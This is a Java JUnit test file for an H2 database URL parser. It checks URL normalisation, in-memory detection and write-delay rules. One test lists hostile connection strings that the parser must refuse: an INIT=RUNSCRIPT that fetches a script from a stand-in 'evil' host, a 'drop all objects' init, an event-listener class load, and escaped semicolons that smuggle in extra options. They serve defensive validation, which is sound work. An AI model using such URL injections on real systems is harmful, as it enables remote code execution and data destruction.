package io.offsetwise.adapters.storage.h2;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;

import io.offsetwise.adapters.storage.fixture.OnH2;
import io.offsetwise.adapters.storage.fixture.Stops;
import io.offsetwise.adapters.storage.jdbc.Credentials;
import io.offsetwise.adapters.storage.jdbc.JdbcConnections;
import io.offsetwise.adapters.storage.jdbc.JdbcSettings;
import io.offsetwise.adapters.storage.jdbc.JdbcTimeouts;
import io.offsetwise.application.stop.StopReason;
import io.offsetwise.application.stop.StoppedException;
import java.nio.file.Path;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.CsvSource;
import org.junit.jupiter.params.provider.ValueSource;

@OnH2
class H2UrlTest {

  @ParameterizedTest
  @CsvSource(
      delimiter = '|',
      value = {
        "jdbc:h2:mem:x | jdbc:h2:mem:x;MODE=PostgreSQL;LOCK_TIMEOUT=10000;DB_CLOSE_DELAY=-1",
        "jdbc:h2:file:/x;write_delay=0 |"
            + " jdbc:h2:file:/x;WRITE_DELAY=0;MODE=PostgreSQL;LOCK_TIMEOUT=10000",
        "jdbc:h2:tcp://h/x |"
            + " jdbc:h2:tcp://h/x;MODE=PostgreSQL;LOCK_TIMEOUT=10000;NETWORK_TIMEOUT=777",
        "jdbc:h2:mem:x;LOCK_TIMEOUT=5;DB_CLOSE_DELAY=0 |"
            + " jdbc:h2:mem:x;LOCK_TIMEOUT=5;DB_CLOSE_DELAY=0;MODE=PostgreSQL"
      })
  void whatIsMissingIsAddedAndWhatIsThereStays(String url, String connecting) {
    assertThat(H2Url.parse(url).connectingUrl(JdbcTimeouts.STANDARD, 777)).isEqualTo(connecting);
  }

  /** Each would run statements, load a class, write a file, or hide another option from us. */
  @ParameterizedTest
  @CsvSource(
      delimiter = '|',
      quoteCharacter = '`',
      value = {
        "jdbc:h2:/x;INIT=RUNSCRIPT FROM 'http://evil/x.sql' | INIT",
        "jdbc:h2:tcp://h/x; init = drop all objects | INIT",
        "jdbc:h2:/x\\;INIT=x | INIT",
        "jdbc:h2:/x;SCHEMA=a\\\\;INIT=x | INIT, \\",
        "jdbc:h2:/x;SCHEMA=a\\;b | B, \\",
        "jdbc:h2:/x;RUNSCRIPT=x | RUNSCRIPT",
        "jdbc:h2:/x;DATABASE_EVENT_LISTENER='evil.Listener' | DATABASE_EVENT_LISTENER",
        "jdbc:h2:/x;TRACE_LEVEL_FILE=3 | TRACE_LEVEL_FILE",
        "jdbc:h2:/x;AUTHREALM=x;CIPHER=AES | AUTHREALM, CIPHER",
        "jdbc:h2:/x;RECOVER_TEST=1 | RECOVER_TEST"
      })
  void whatIsNotKnownToBeHarmlessIsRefused(String url, String named) {
    assertThatThrownBy(() -> H2Url.parse(url))
        .isInstanceOf(IllegalArgumentException.class)
        .hasMessageContaining(" has " + named + ", which is not taken from an address")
        .hasMessageNotContaining("evil");
  }

  @ParameterizedTest
  @ValueSource(strings = {"", ";WRITE_DELAY=500"})
  void anEmbeddedFileThatLosesCommitsIsRefusedBeforeItIsCreated(
      String option, @TempDir Path folder) {
    Path database = folder.resolve("lossy");
    JdbcSettings settings =
        JdbcSettings.pooled("jdbc:h2:" + database + option, new Credentials.None());

    StoppedException stop = Stops.of(settings::open);

    assertThat(stop.reason()).isEqualTo(StopReason.IMPOSSIBLE);
    assertThat(stop)
        .hasMessageContaining(database.toString())
        .hasMessageContaining("WRITE_DELAY=500")
        .hasMessageContaining("append ;WRITE_DELAY=0");
    assertThat(folder).isEmptyDirectory();
  }

  @ParameterizedTest
  @CsvSource({
    "jdbc:h2:tcp://127.0.0.1/./wallets, true",
    "jdbc:h2:file:/data/wallets;AUTO_SERVER=TRUE, true",
    "jdbc:h2:file:/data/wallets, false",
    "jdbc:h2:/data/wallets;AUTO_SERVER=FALSE, false",
    "jdbc:h2:mem:wallets, false"
  })
  void onlyAServerIsSharedByProcesses(String url, boolean shared) {
    assertThat(H2Url.parse(url).isShared()).isEqualTo(shared);
  }

  @ParameterizedTest
  @ValueSource(
      strings = {
        "jdbc:h2:mem:x",
        "jdbc:h2:mem:",
        "jdbc:h2:.",
        "jdbc:h2: mem:x",
        "jdbc:h2:MEM:x;WRITE_DELAY=0",
        "jdbc:h2:memFS:x",
        "jdbc:h2:memLZF:/x/y",
        "jdbc:h2:nioMemFS:x",
        "jdbc:h2:nioMemLZF:12:x",
        "jdbc:h2:file:memFS:x",
        "jdbc:h2:split:nioMemFS:x",
        "jdbc:h2:split:24:memFS:x",
        "jdbc:h2:async:retry:memFS:x",
        "jdbc:h2:tcp://127.0.0.1:9092/mem:x",
        "jdbc:h2:tcp://one,other/mem:x",
        "jdbc:h2:tcp:localhost/mem:x",
        "jdbc:h2:ssl://[::1]:9092/split:memFS:x"
      })
  void whatLivesInMemoryIsToldWhoeverHoldsIt(String url) {
    assertThat(JdbcSettings.pooled(url, new Credentials.None()).isMemory()).isTrue();
  }

  @ParameterizedTest
  @ValueSource(
      strings = {
        "jdbc:h2:/data/mem",
        "jdbc:h2:./mem/x",
        "jdbc:h2:file:/data/mem:x",
        "jdbc:h2:split:/data/x",
        "jdbc:h2:nio:/data/memFS",
        "jdbc:h2:C:/mem/x",
        "jdbc:h2:tcp://mem:9092/./wallets",
        "jdbc:h2:tcp://127.0.0.1/~/x"
      })
  void whatLiesInAFileIsNotMemoryWhateverItsName(String url) {
    assertThat(JdbcSettings.pooled(url, new Credentials.None()).isMemory()).isFalse();
  }

  @Test
  void anEmbeddedFileWithoutWriteDelayIsAccepted(@TempDir Path folder) {
    JdbcSettings settings =
        JdbcSettings.pooled(
            "jdbc:h2:file:" + folder.resolve("kept") + ";WRITE_DELAY=0", new Credentials.None());

    try (JdbcConnections connections = settings.open()) {
      assertThat(
              connections.<Integer>inTransaction(
                  handle -> handle.createQuery("SELECT 1").mapTo(Integer.class).one()))
          .isEqualTo(1);
    }
  }
}
